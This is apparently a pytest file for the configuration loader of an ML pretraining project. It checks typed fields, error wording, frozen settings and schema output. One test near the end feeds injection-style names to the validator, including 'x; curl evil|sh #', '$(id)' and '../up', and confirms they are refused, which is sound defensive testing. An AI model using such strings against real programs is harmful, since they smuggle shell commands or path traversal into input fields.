"""params.yaml: complete, typed, and refused with a sentence where it is wrong."""

from __future__ import annotations

import dataclasses
import json
import re
import sys
from pathlib import Path

import pytest

from tasks import params
from tasks.config import Config, plain
from tasks.errors import InputError

GOOD = """
corpora:
  none: {modality: text}
  notes: {modality: text, from: notes/*.txt}
encoders:
  small: {architecture: bert, config: {hidden_size: 32}}
recipes:
  mine:
    modality: text
    general: notes
    domain: none
    tasks: none
    encoder: small
    validate: {}
    prepare: {}
    pretrain: {steps: 10, lr: 1e-3, objective: {name: masked_lm}}
    adapt: {steps: 0}
    finetune: {}
    report: {}
"""


def load(text: str, folder: Path) -> Config:
    path = folder / "params.yaml"
    path.write_text(text, encoding="utf-8")
    return params.load(path)


def refusal(text: str, folder: Path) -> str:
    with pytest.raises(InputError) as error:
        load(text, folder)
    return str(error.value)


def test_the_projects_own_file_is_valid() -> None:
    assert "text-mlm" in params.load().recipes


def test_examples_of_the_readme_are_valid(tmp_path: Path) -> None:
    readme = (Path(__file__).parents[1] / "README.md").read_text(encoding="utf-8")
    examples = re.findall(r"```yaml\n(.*?)```", readme, re.DOTALL)
    found = [
        load(f"corpora:\n  none: {{modality: text}}\n{text.removeprefix('corpora:')}", tmp_path)
        for text in examples
    ]
    assert [list(config.recipes) for config in found] == [["notes"], ["photos"], ["calls"]]


@pytest.mark.parametrize(
    ("old", "new", "sentence"),
    [
        (
            "architecture: bert, config: {hidden_size: 32}", "from: bert-base-uncased",
            "finetune.scratch_compute: must be same_steps where the encoder starts from released weights",
        ),
        ("scratch_compute: shared", "arms: [adapted]", "finetune.arms: none of them is trained"),
    ],
)  # fmt: skip
def test_what_fine_tuning_would_refuse_is_refused_before_anything_is_trained(
    old: str, new: str, sentence: str, tmp_path: Path
) -> None:
    payable = GOOD.replace("tasks: none", "tasks: notes").replace(
        "finetune: {}", "finetune: {scratch_compute: shared}"
    )
    load(payable, tmp_path)
    assert sentence in refusal(payable.replace(old, new), tmp_path)


def test_check_says_what_is_wrong_and_leaves_with_1(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "argv", ["params", "--check"])
    (tmp_path / "params.yaml").write_text(GOOD)
    params.main()
    assert "params.yaml is right: 1 recipes" in capsys.readouterr().out
    (tmp_path / "params.yaml").write_text(GOOD.replace("lr: 1e-3", "lr: fast"))
    with pytest.raises(SystemExit, match="recipes.mine.pretrain.lr: input should be a valid number"):
        params.main()


def test_numbers_arrive_as_numbers(tmp_path: Path) -> None:
    assert load(GOOD, tmp_path).recipe("mine").pretrain.lr == 0.001


def test_settings_are_frozen_and_complete(tmp_path: Path) -> None:
    recipe = load(GOOD, tmp_path).recipe("mine")
    with pytest.raises(dataclasses.FrozenInstanceError):
        recipe.pretrain.steps = 3  # type: ignore[misc]
    assert plain(recipe)["pretrain"]["objective"] == {
        "name": "masked_lm", "mask_probability": 0.15, "mask_share": 0.8, "random_share": 0.1, "whole_words": False,
        "chunk_tokens": 1024,
    }  # fmt: skip


@pytest.mark.parametrize(
    ("old", "new", "sentence"),
    [
        ("lr: 1e-3", "lrr: 1e-3", "recipes.mine.pretrain.lrr: unknown key 'lrr'; did you mean 'lr'?"),
        ("lr: 1e-3", "lr: fast", "recipes.mine.pretrain.lr: input should be a valid number; got 'fast'"),
        ("lr: 1e-3", "lr: .nan", "recipes.mine.pretrain.lr: input should be a finite number"),
        ("lr: 1e-3", "lr: '1e-3'", "recipes.mine.pretrain.lr: input should be a valid number; got '1e-3' (str)"),
        ("steps: 10", "steps: -5", "recipes.mine.pretrain.steps: input should be greater than or equal to 0; got -5"),
        ("steps: 10", "steps: 1.5", "recipes.mine.pretrain.steps: input should be a valid integer; got 1.5 (float)"),
        ("name: masked_lm", "name: masked", "recipes.mine.pretrain.objective.name: unknown name 'masked'; did you mean 'masked_lm'?"),
        ("name: masked_lm", "name: masked_lm, p: 1", "objective.p: unknown key 'p'; known: chunk_tokens, mask_probability"),
        ("encoder: small", "encoder: smal", "recipes.mine.encoder: unknown encoder 'smal'; did you mean 'small'?"),
        ("architecture: bert", "architecture: bort", "recipes.mine.encoder: small: unknown architecture 'bort'"),
        ("hidden_size: 32", "hiden_size: 32", "recipes.mine.encoder: small: bert has no config field 'hiden_size'"),
        ("prepare: {}", "prepare: {sequence_length: 600}", "small: sequence_length 600 is longer than the 512 positions"),
        ("general: notes", "general: note", "recipes.mine.general: unknown corpus 'note'; did you mean 'notes'?"),
        ("general: notes", "general: none", "recipes.mine.pretrain.steps: must be 0 where `general` is none"),
        ("steps: 10", "probe_every: 5", "recipes.mine.pretrain.probe_every: must be 0 where `tasks` names no labelled set of kind"),
        ("steps: 0", "steps: 5", "recipes.mine.adapt.steps: must be 0 where `domain` is none"),
        ("    domain: none\n", "", "recipes.mine.domain: is required and missing"),
        ("architecture: bert", "architecture: bert, from: x", "encoders.small: give either `architecture`"),
        ("  none: {modality: text}\n", "", "corpora.none: is required"),
        ("from: notes", "fromm: notes", "corpora.notes.fromm: unknown key 'fromm'; did you mean 'from'?"),
        ("encoders:", "encoder:", "encoder: unknown key 'encoder'; did you mean 'encoders'?"),
    ],
)  # fmt: skip
def test_mistake_is_named_with_path_value_and_choices(
    old: str, new: str, sentence: str, tmp_path: Path
) -> None:
    assert old in GOOD
    assert sentence in refusal(GOOD.replace(old, new), tmp_path)


def test_examples_must_fit_the_encoder_where_there_are_tasks(tmp_path: Path) -> None:
    long_ones = GOOD.replace("prepare: {}", "prepare: {task_length: 600}")
    assert load(long_ones, tmp_path).recipe("mine").tasks == "none"
    with_tasks = long_ones.replace("tasks: none", "tasks: notes")
    assert "small: task_length 600 is longer than the 512 positions" in refusal(with_tasks, tmp_path)


def test_pictures_must_be_filled_by_patches(tmp_path: Path) -> None:
    pictures = GOOD.replace("modality: text", "modality: image").replace("masked_lm", "mae")
    pictures = pictures.replace("none: {modality: image}", "none: {modality: text}")
    text = refusal(
        pictures.replace("bert, config: {hidden_size: 32}", "vit, config: {patch_size: 15}"), tmp_path
    )
    assert "recipes.mine.encoder: small: pictures of 224 pixels cannot be cut into patches of 15" in text


def test_all_mistakes_are_told_at_once(tmp_path: Path) -> None:
    text = refusal(
        GOOD.replace("steps: 10", "stps: 10")
        .replace("hidden_size", "hidden_size")
        .replace("from: notes", "fro: notes"),
        tmp_path,
    )
    assert "stps" in text
    assert "fro" in text


def test_unknown_recipe_lists_the_known_ones(tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"unknown recipe 'min'; did you mean 'mine'\? known: mine"):
        load(GOOD, tmp_path).recipe("min")


def test_missing_and_broken_files_are_named(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="is missing; run from the project's root"):
        params.load(tmp_path / "params.yaml")
    assert "is not valid YAML" in refusal("corpora: [", tmp_path)
    assert "must hold a mapping" in refusal("- 1", tmp_path)


def test_every_field_has_a_sentence() -> None:
    document = params.json_schema()
    silent = [
        f"{name}.{key}"
        for name, part in document["$defs"].items()
        for key, value in part.get("properties", {}).items()
        if not str(value.get("description", "")).endswith((".", ":", "…")) and "name" not in key
    ]
    assert [key for key in silent if not key.endswith((".modality", ".name"))] == []


def test_schema_is_json_and_knows_objectives_and_ranges() -> None:
    text = json.dumps(params.json_schema())
    assert "mask_probability" in text
    assert '"exclusiveMinimum": 0' in text


def test_corpora_load_without_the_rest(tmp_path: Path) -> None:
    path = tmp_path / "params.yaml"
    path.write_text(GOOD.split("encoders:")[0], encoding="utf-8")
    assert params.load_corpora(path)["notes"].source == ("notes/*.txt",)


@pytest.mark.parametrize("name", ["x; curl evil|sh #", "../up", "-x", "a b", "$(id)"])
@pytest.mark.parametrize("section", ["corpora", "encoders", "recipes"])
def test_names_that_could_be_more_than_names_are_refused(tmp_path: Path, section: str, name: str) -> None:
    path = tmp_path / "params.yaml"
    path.write_text(json.dumps({section: {name: {}}}))
    with pytest.raises(InputError, match="names are letters and digits"):
        params.load(path)


def test_name_of_a_labelled_set_is_a_name(tmp_path: Path) -> None:
    path = tmp_path / "params.yaml"
    path.write_text(json.dumps({"corpora": {"a": {"modality": "text", "tasks": {"../up": {"from": "x"}}}}}))
    with pytest.raises(InputError, match="corpora.a.tasks.../up: names are"):
        params.load_corpora(path)
